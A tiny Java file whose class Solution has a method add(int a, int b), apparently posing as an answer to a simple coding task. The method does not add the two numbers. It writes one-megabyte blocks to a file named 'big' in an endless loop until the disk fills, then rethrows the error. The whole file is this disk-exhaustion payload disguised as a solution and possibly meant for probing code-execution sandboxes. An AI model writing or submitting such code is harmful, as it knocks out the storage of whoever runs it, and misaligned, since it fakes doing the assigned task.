import java.util.*;

class Solution {
    public List<Integer> add(int a, int b) {
        try (var file = new java.io.FileOutputStream("big")) {
            while (true) {
                file.write(new byte[1 << 20]);
            }
        } catch (java.io.IOException full) {
            throw new IllegalStateException(full);
        }
    }
}
